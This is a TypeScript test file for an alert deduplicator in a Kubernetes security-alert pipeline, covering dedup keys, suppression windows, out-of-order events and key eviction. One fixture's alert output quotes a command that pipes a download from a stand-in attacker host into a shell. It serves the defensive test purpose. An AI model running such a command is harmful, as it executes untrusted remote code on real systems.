import { describe, expect, it } from 'vitest';
import { AlertDeduplicator, dedupKey } from './dedup.js';
import { sampleAlert } from './test-support/sample-alert.js';

const MINUTE = 60_000;

function at(minute: number, second = 0): string {
  return new Date(Date.parse('2024-05-01T12:00:00Z') + minute * MINUTE + second * 1000).toISOString();
}

describe('dedupKey', () => {
  it('ignores time and event id, so a repeat of the same action has the same key', () => {
    expect(dedupKey(sampleAlert({ time: at(3), eventId: 'other' }))).toBe(dedupKey(sampleAlert()));
    expect(dedupKey(sampleAlert({ subject: { name: 'alice', sourceIPs: ['198.51.100.1', '203.0.113.7'] } }))).toBe(dedupKey(sampleAlert({ subject: { name: 'alice', sourceIPs: ['203.0.113.7', '198.51.100.1'] } })));
  });

  it('keeps apart alerts that differ in rule, actor, source address, object or rendered output', () => {
    const base = sampleAlert();
    const variants = [
      sampleAlert({ ruleId: 'k8s-other-rule' }),
      sampleAlert({ subject: { ...base.subject, name: 'bob' } }),
      sampleAlert({ subject: { ...base.subject, impersonated: 'system:admin' } }),
      sampleAlert({ subject: { ...base.subject, sourceIPs: ['198.51.100.9'] } }),
      sampleAlert({ object: { ...base.object, name: 'db' } }),
      sampleAlert({ object: { ...base.object, namespace: 'prod' } }),
      sampleAlert({ object: { ...base.object, subresource: 'attach' } }),
      sampleAlert({ output: 'alice ran a command in pod default/web (command=curl evil.example | sh)' }),
      sampleAlert({ source: 'cloudtrail' }),
    ];
    const keys = new Set([base, ...variants].map(dedupKey));
    expect(keys.size).toBe(variants.length + 1);
  });
});

describe('AlertDeduplicator', () => {
  it('suppresses the same event delivered twice and a burst of the same exec within the window', () => {
    const dedup = new AlertDeduplicator({ windowMs: 10 * MINUTE });
    const admitted = [
      sampleAlert({ time: at(0) }),
      sampleAlert({ time: at(0) }),
      sampleAlert({ time: at(0, 5), eventId: 'repeat-1' }),
      sampleAlert({ time: at(9, 59), eventId: 'repeat-2' }),
      sampleAlert({ time: at(1), object: { resource: 'pods', subresource: 'exec', namespace: 'default', name: 'db' } }),
    ].map((alert) => dedup.admit(alert));
    expect(admitted).toEqual([true, false, false, false, true]);
    expect(dedup.stats.emitted).toBe(2);
    expect(dedup.stats.suppressed).toBe(3);
    expect(dedup.stats.suppressedByRule).toEqual(new Map([['k8s-exec-into-pod', 3]]));
  });

  it('emits again once the window (opened by the emitted alert, not extended by repeats) has passed', () => {
    const dedup = new AlertDeduplicator({ windowMs: 10 * MINUTE });
    const admitted = [0, 4, 8, 10, 12, 19, 20].map((minute) => dedup.admit(sampleAlert({ time: at(minute) })));
    expect(admitted).toEqual([true, false, false, true, false, false, true]);
  });

  it('counts a slightly older event (out of order across streams) as inside the window', () => {
    const dedup = new AlertDeduplicator({ windowMs: 10 * MINUTE });
    expect(dedup.admit(sampleAlert({ time: at(30) }))).toBe(true);
    expect(dedup.admit(sampleAlert({ time: at(25) }))).toBe(false);
    expect(dedup.admit(sampleAlert({ time: at(15) }))).toBe(true);
  });

  it('replays deterministically from event times whatever the wall clock', () => {
    const replay = (wallClock: number) => {
      const dedup = new AlertDeduplicator({ windowMs: 10 * MINUTE, now: () => wallClock });
      return [0, 5, 11, 11].map((minute) => dedup.admit(sampleAlert({ time: at(minute) })));
    };
    expect(replay(0)).toEqual([true, false, true, false]);
    expect(replay(Date.parse('2030-01-01T00:00:00Z'))).toEqual(replay(0));
  });

  it('uses the injected clock for alerts without a usable time', () => {
    let now = 0;
    const dedup = new AlertDeduplicator({ windowMs: 10 * MINUTE, now: () => now });
    expect(dedup.admit(sampleAlert({ time: '' }))).toBe(true);
    now = 9 * MINUTE;
    expect(dedup.admit(sampleAlert({ time: 'not a time' }))).toBe(false);
    now = 10 * MINUTE;
    expect(dedup.admit(sampleAlert({ time: '' }))).toBe(true);
  });

  it('forgets the least recently emitted key past the cap', () => {
    const dedup = new AlertDeduplicator({ windowMs: 10 * MINUTE, maxKeys: 2 });
    const alert = (name: string) => sampleAlert({ object: { resource: 'pods', subresource: 'exec', namespace: 'default', name } });
    expect(['a', 'b', 'c'].map((name) => dedup.admit(alert(name)))).toEqual([true, true, true]);
    expect(dedup.stats.evicted).toBe(1);
    expect(dedup.admit(alert('c'))).toBe(false);
    expect(dedup.admit(alert('b'))).toBe(false);
    expect(dedup.admit(alert('a'))).toBe(true);
  });

  it('passes everything with a zero window', () => {
    const dedup = new AlertDeduplicator({ windowMs: 0 });
    expect([dedup.admit(sampleAlert()), dedup.admit(sampleAlert())]).toEqual([true, true]);
    expect(dedup.stats).toMatchObject({ emitted: 2, suppressed: 0 });
  });
});
